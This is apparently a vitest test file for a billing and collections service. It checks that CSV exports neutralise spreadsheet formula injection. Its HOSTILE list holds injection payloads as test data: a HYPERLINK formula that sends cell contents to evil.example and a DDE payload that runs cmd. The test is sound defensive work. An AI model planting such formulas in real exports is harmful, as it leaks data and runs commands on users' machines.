import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../setup/test-app.js';
import { createCustomer, unique } from '../setup/ledger-helpers.js';
import { NO_SCHEDULES } from '../setup/jobs.js';
import { csvCell, csvRow } from '../../src/http/csv-out.js';
import { reminderCsv } from '../../src/legal/legal-cases-service.js';

/*
 * CSV injection (OWASP): a cell that begins with =, +, -, @, a tab or a carriage return is run as a
 * formula by spreadsheets. Every CSV the service writes must neutralise such text cells; the
 * hostile values below come from what a user can type (an owner's name, an invoice number, a
 * registered-letter number).
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

/** Each cell of a CSV text, unquoted (RFC 4180). */
function cells(text: string, sep: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === sep || c === '\n') {
      out.push(cell);
      cell = '';
    }
    else cell += c;
  }
  if (cell !== '') out.push(cell);
  return out;
}
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({}, { now: '2026-03-05T09:00:00Z', schedule: NO_SCHEDULES });
});
afterAll(async () => {
  await t?.close();
});

describe('every CSV Vigie writes neutralises formula cells', () => {
  it('csvCell: text that starts a formula is prefixed with an apostrophe and stays readable; numbers, negative ones too, stay numbers', () => {
    for (const h of HOSTILE) {
      const [cell] = cells(csvCell(h), ',');
      expect(cell!.startsWith("'"), JSON.stringify(h)).toBe(true);
      expect(cell!.slice(1)).toBe(h);
    }
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('F-2026-1')).toBe('F-2026-1');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
    expect(csvRow(['x', null, 3, 'say "hi"'])).toBe('x,,3,"say ""hi"""');
  });

  it('the KPI export grouped by owner (GET /v1/kpis?format=csv): an owner named =HYPERLINK(…) is text', async () => {
    for (const [i, owner] of HOSTILE.slice(0, 4).entries()) {
      const c = await createCustomer(t);
      await t.as('collector').put(`/v1/customers/${c.id}/collections-profile`, { owner: { name: owner } }).expect(200);
      await t.as('credit_manager').post('/v1/invoices', { number: unique(`=X${i}`), customerId: c.id, issueDate: '2026-02-01', dueDate: '2026-03-01', amount: 10_000, currency: 'EUR' }).expect(200);
    }
    const res = await t.as('credit_manager').get('/v1/kpis?from=2026-02-01&to=2026-03-31&groupBy=owner&format=csv');
    expect(res.status).toBe(200);
    const all = cells(res.text, ',');
    expect(all.filter(dangerous)).toEqual([]);
    for (const owner of HOSTILE.slice(0, 4)) expect(all).toContain(`'${owner}`);
  });

  it("the court bundle's reminder log: hostile invoice numbers, subjects and registered-letter numbers are text", () => {
    const rows = HOSTILE.map((h, i) => ({
      id: String(i), run_on: '2026-03-06', kind: 'letter', step_key: 'formal_notice', subject: h, status: 'sent', formal_notice: true,
      deadline_on: '2026-03-14', sent_on: '2026-03-06', registered_number: h, document_id: null, numbers: [h, 'F-1'],
    }));
    const text = reminderCsv(rows);
    expect(cells(text, ';').filter(dangerous)).toEqual([]);
  });

  it('no other module writes CSV by hand: every file that produces text/csv or a .csv goes through csvRow', () => {
    const root = path.resolve(import.meta.dirname, '../../src');
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const p = path.join(dir, name);
        if (statSync(p).isDirectory()) walk(p);
        else if (p.endsWith('.ts') && !p.endsWith('.test.ts')) files.push(p);
      }
    };
    walk(root);
    const writers = files.filter((f) => {
      const src = readFileSync(f, 'utf8');
      return /function (?!parse)\w*Csv\(/.test(src) || (/join\((?:';'|','|'\\t')\)/.test(src) && /\.csv\b/.test(src));
    });
    expect(writers.map((f) => path.basename(f)).sort()).toEqual(expect.arrayContaining(['kpis-service.ts', 'legal-cases-service.ts']));
    const unguarded = writers.filter((f) => !f.endsWith('csv-out.ts') && !readFileSync(f, 'utf8').includes('csvRow'));
    expect(unguarded.map((f) => path.relative(root, f))).toEqual([]);
  });
});
